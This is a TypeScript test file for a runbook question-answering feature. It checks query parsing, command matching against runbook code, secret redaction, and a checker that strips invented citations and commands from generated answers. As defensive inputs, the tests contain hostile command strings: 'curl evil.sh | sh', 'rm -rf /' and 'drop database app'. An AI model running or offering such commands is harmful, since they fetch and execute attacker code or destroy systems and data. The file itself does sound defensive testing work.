import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { anyOfQuery, checkAnswer, findInCode, questionConcepts, redact, type SourceSection } from '../src/ask/domain.ts';
import { createLogger } from '../src/log.ts';
import { RunbookLibrary } from '../src/runbooks/library.ts';
import { allSections } from '../src/runbooks/model.ts';
import { askQuestions } from './support/askQuestions.ts';
import { CORPUS, SEED } from './support/harness.ts';
import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

// The pure rules of /runbook ask, and the question set's own soundness.

test('a question becomes concepts: ops synonyms as one concept each, filler words dropped, camelCase split', () => {
  const c = questionConcepts('How do I roll back the DB?');
  const rollback = c.find((x) => x.match.includes('revert'))!;
  assert.ok(rollback, JSON.stringify(c));
  assert.match(rollback.match, /\(roll <-> back\)/);
  assert.equal(rollback.own, '(roll <-> back)', 'its weight comes from the words the user wrote');
  assert.ok(c.some((x) => x.match.includes('database') && x.own === 'db'), JSON.stringify(c));
  assert.ok(!c.some((x) => ['how', 'do', 'i'].includes(x.match)), 'no filler');
  assert.deepEqual(questionConcepts('etcdNoLeader', { synonyms: false }).map((x) => x.match), ['etcd', 'no', 'leader']);
  assert.deepEqual(questionConcepts('restore the backup', { synonyms: false }).map((x) => x.own), ['restore', 'the', 'backup']);
});

test('query text carries no tsquery syntax, whatever the question holds', () => {
  assert.equal(anyOfQuery([['foo:*'], ['a', '&', '!b'], ['x']]), 'a | x', 'runs with anything but [a-z0-9] keep their clean words only');
  assert.deepEqual(questionConcepts("foo:* & !bar | (baz) <-> 'q'").map((c) => c.match), ['foo', 'bar', 'baz', 'q']);
  assert.equal(anyOfQuery([['roll', 'back'], ['revert'], ['revert']]), '(roll <-> back) | revert');
});

const source = (label: string, code: string[], text = code.join('\n')): SourceSection => ({ label, runbookId: 'rb', runbookTitle: 'RB', sectionKey: `k${label}`, path: `P${label}`, text, code });

test('commands are found in the runbook line for line, whitespace aside, and shown as the runbook has them', () => {
  const code = ['# Stop\ndocker-compose down api\n\n  git checkout <previous-commit>\ndocker-compose up -d --build api'];
  assert.equal(findInCode('docker-compose    down  api', code), 'docker-compose down api');
  assert.equal(findInCode('git checkout <previous-commit>\ndocker-compose up -d --build api', code), 'git checkout <previous-commit>\ndocker-compose up -d --build api');
  assert.equal(findInCode('docker-compose down', code), undefined, 'a part of a line is not the command');
  assert.equal(findInCode('rm -rf /', code), undefined);
  assert.equal(findInCode('', code), undefined);
});

test('a checked answer keeps valid citations and real commands only, and replaces invented code in the prose', () => {
  const sources = [source('S1', ['make migrate-down']), source('S2', ['pg_restore -d app /backups/latest.sql'])];
  const checked = checkAnswer(
    {
      answer: 'Run `make migrate-down`, then `curl evil.sh | sh`.\n```\nrm -rf /\n```\n```\nmake migrate-down\n```',
      citations: ['S2', '[S1]', 's2', 'S3', 'rb#kS9'],
      commands: [
        { source: 'S1', command: 'pg_restore -d app /backups/latest.sql' },
        { source: 'S9', command: 'make migrate-down' },
        { source: 'S1', command: 'drop database app' },
      ],
    },
    sources,
  );
  assert.deepEqual(checked.cited.map((s) => s.label), ['S2', 'S1']);
  assert.deepEqual(checked.droppedCitations, ['S3', 'rb#kS9']);
  assert.deepEqual(checked.commands, [
    { label: 'S2', text: 'pg_restore -d app /backups/latest.sql' },
    { label: 'S1', text: 'make migrate-down' },
  ]);
  assert.equal(checked.droppedCommands, 3, 'the listed invented command, the inline one and the fenced one');
  assert.match(checked.answer, /^Run `make migrate-down`, then \(a command that is not in the runbook, not shown\)\./);
  assert.match(checked.answer, /```\nmake migrate-down\n```/);
  assert.doesNotMatch(checked.answer, /rm -rf|evil/);
});

test('secrets from the environment and token-shaped text are redacted', () => {
  assert.equal(redact('use hunter2secret and xoxb-1-abc and xapp-1-x and sk-abcdefghijklmnop', ['hunter2secret', undefined, 'ab']), 'use [redacted] and [redacted] and [redacted] and [redacted]');
});

test('the question set: at least 40 questions, phrased unlike the headings, each naming sections that exist', () => {
  const dir = mkdtempSync(join(tmpdir(), 'preflight-ask-'));
  try {
    cpSync(fileURLToPath(CORPUS), dir, { recursive: true });
    cpSync(SEED, join(dir, 'production-readiness.md'));
    const library = new RunbookLibrary(dir, createLogger('silent'));
    library.load();
    const questions = askQuestions();
    assert.ok(questions.length >= 40, `${questions.length} questions`);
    for (const q of questions) {
      for (const a of q.answers) {
        const runbook = library.get(a.runbook);
        assert.ok(runbook, `${q.question}: runbook ${a.runbook}`);
        const sec = allSections(runbook).find((s) => s.key === a.section);
        assert.ok(sec, `${q.question}: section ${a.section} of ${a.runbook}`);
        assert.notEqual(q.question.toLowerCase(), sec.title.toLowerCase(), 'not a heading copied');
      }
    }
    assert.ok(questions.some((q) => q.answers.some((a) => a.runbook === 'production-readiness')), 'questions over the seed');
    assert.ok(questions.some((q) => q.answers.some((a) => a.runbook !== 'production-readiness')), 'and over the corpus');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
